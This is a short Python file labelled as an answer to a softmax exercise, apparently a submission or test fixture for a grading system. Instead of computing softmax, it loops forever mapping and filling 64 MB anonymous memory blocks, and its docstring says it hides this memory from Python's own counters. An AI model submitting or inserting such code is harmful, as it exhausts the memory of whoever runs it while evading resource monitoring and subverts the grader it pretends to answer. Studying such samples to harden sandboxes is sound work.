"""Maps memory that no counter of Python's sees, and touches it."""
# exercise: softmax
# where: answer
# status: any

import mmap

kept = []
while True:
    block = mmap.mmap(-1, 2**26)
    block[:] = b"x" * 2**26
    kept.append(block)
